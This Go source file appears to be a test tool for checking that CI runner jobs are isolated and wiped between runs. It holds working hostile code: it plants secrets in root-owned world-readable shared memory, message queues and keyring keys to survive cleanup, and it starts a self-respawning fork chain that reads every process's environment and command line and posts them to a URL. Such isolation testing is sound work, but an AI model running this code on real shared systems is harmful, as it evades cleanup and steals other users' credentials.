// Command jobtool is what the stand-in's hostile jobs run for what a shell
// script cannot do: leave System V shared memory handed to root, POSIX
// message queues and keys in the user's keyring for the next run to find,
// and fork a chain of processes that each start the next before doing
// anything, to outlive the end of the job and read other processes'
// environments. It prints "LEFT <what>" for anything it finds of an earlier
// run, and reports what it read to a URL.
//
//	jobtool leave SECRET      leave SECRET in shared memory, a message queue and a key
//	jobtool find              look for what leave left
//	jobtool chain URL         start a fork chain that posts every environment it reads to URL
package main

import (
	"bytes"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

const (
	shmKey   = 0x45433252 // "EC2R"
	queue    = "ec2runners-left"
	keyName  = "ec2runners-left"
	shmBytes = 4096
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: jobtool leave SECRET | find | chain URL")
		os.Exit(2)
	}
	var err error
	switch os.Args[1] {
	case "leave":
		err = leave(os.Args[2])
	case "find":
		find()
	case "chain":
		chain(os.Args[2])
	default:
		err = fmt.Errorf("unknown command %s", os.Args[1])
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "jobtool:", err)
		os.Exit(1)
	}
}

// leave leaves secret where a wipe that knows only files and the user's own
// processes does not look: shared memory whose owner it makes root and
// everyone's to read (IPC_SET, allowed to its creator), a POSIX message
// queue, and a key in the user's keyring.
func leave(secret string) error {
	id, err := unix.SysvShmGet(shmKey, shmBytes, unix.IPC_CREAT|0o600)
	if err != nil {
		return fmt.Errorf("shmget: %w", err)
	}
	mem, err := unix.SysvShmAttach(id, 0, 0)
	if err != nil {
		return fmt.Errorf("shmat: %w", err)
	}
	copy(mem, secret)
	_ = unix.SysvShmDetach(mem)
	var desc unix.SysvShmDesc
	if _, err := unix.SysvShmCtl(id, unix.IPC_STAT, &desc); err != nil {
		return fmt.Errorf("IPC_STAT: %w", err)
	}
	desc.Perm.Uid, desc.Perm.Mode = 0, 0o666
	if _, err := unix.SysvShmCtl(id, unix.IPC_SET, &desc); err != nil {
		return fmt.Errorf("IPC_SET: %w", err)
	}
	fmt.Println("left shared memory", id, "owned by root")
	mq, err := mqOpen(queue, unix.O_CREAT|unix.O_WRONLY, 0o666)
	if err != nil {
		return fmt.Errorf("mq_open: %w", err)
	}
	if err := mqSend(mq, secret); err != nil {
		return fmt.Errorf("mq_send: %w", err)
	}
	fmt.Println("left message queue", queue)
	if _, err := unix.AddKey("user", keyName, []byte(secret), unix.KEY_SPEC_USER_KEYRING); err != nil {
		return fmt.Errorf("add_key: %w", err)
	}
	fmt.Println("left key", keyName)
	return nil
}

// find prints LEFT for each thing leave left that it can read.
func find() {
	found := false
	if id, err := unix.SysvShmGet(shmKey, 0, 0); err == nil {
		if mem, err := unix.SysvShmAttach(id, 0, unix.SHM_RDONLY); err == nil {
			fmt.Printf("LEFT shared memory: %s\n", bytes.TrimRight(mem, "\x00"))
			_ = unix.SysvShmDetach(mem)
		} else {
			fmt.Printf("LEFT shared memory %d (unreadable: %v)\n", id, err)
		}
		found = true
	}
	if mq, err := mqOpen(queue, unix.O_RDONLY|unix.O_NONBLOCK, 0); err == nil {
		msg, _ := mqReceive(mq)
		fmt.Printf("LEFT message queue: %s\n", msg)
		found = true
	}
	if id, err := unix.KeyctlSearch(unix.KEY_SPEC_USER_KEYRING, "user", keyName, 0); err == nil {
		buf := make([]byte, 256)
		n, _ := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
		fmt.Printf("LEFT key: %s\n", buf[:max(n, 0)])
		found = true
	}
	if !found {
		fmt.Println("clean")
	}
}

func mqOpen(name string, flags, mode int) (int, error) {
	p, err := unix.BytePtrFromString(name) // the syscall takes the name without its leading '/'
	if err != nil {
		return 0, err
	}
	attr := struct{ flags, maxmsg, msgsize, curmsgs int64 }{maxmsg: 1, msgsize: 256}
	fd, _, errno := unix.Syscall6(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(p)), uintptr(flags), uintptr(mode), uintptr(unsafe.Pointer(&attr)), 0, 0)
	if errno != 0 {
		return 0, errno
	}
	return int(fd), nil
}

func mqSend(fd int, msg string) error {
	b := []byte(msg)
	_, _, errno := unix.Syscall6(unix.SYS_MQ_TIMEDSEND, uintptr(fd), uintptr(unsafe.Pointer(&b[0])), uintptr(len(b)), 0, 0, 0)
	if errno != 0 {
		return errno
	}
	return nil
}

func mqReceive(fd int) (string, error) {
	buf := make([]byte, 256)
	n, _, errno := unix.Syscall6(unix.SYS_MQ_TIMEDRECEIVE, uintptr(fd), uintptr(unsafe.Pointer(&buf[0])), uintptr(len(buf)), 0, 0, 0)
	if errno != 0 {
		return "", errno
	}
	return string(buf[:n]), nil
}

// chain is one generation of a fork chain: it starts the next generation
// (in a session of its own) before anything else, then reads the
// environment of every process it can see, posts what it read to report,
// and ends. The chain goes on until every generation is killed at once.
func chain(report string) {
	self, _ := os.Executable()
	next := exec.Command(self, "chain", report)
	next.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	_ = next.Start()
	var read []string
	environs, _ := filepath.Glob("/proc/[0-9]*/environ")
	for _, path := range environs {
		if b, err := os.ReadFile(path); err == nil && len(b) > 0 {
			read = append(read, strings.ReplaceAll(string(b), "\x00", "\n"))
		}
	}
	if cmdlines, _ := filepath.Glob("/proc/[0-9]*/cmdline"); len(cmdlines) > 0 {
		for _, path := range cmdlines {
			if b, err := os.ReadFile(path); err == nil {
				read = append(read, strings.ReplaceAll(string(b), "\x00", " "))
			}
		}
	}
	client := http.Client{Timeout: 2 * time.Second}
	_, _ = client.PostForm(report, url.Values{"read": {strings.Join(read, "\n")}, "pid": {fmt.Sprint(os.Getpid())}})
	time.Sleep(50 * time.Millisecond)
}
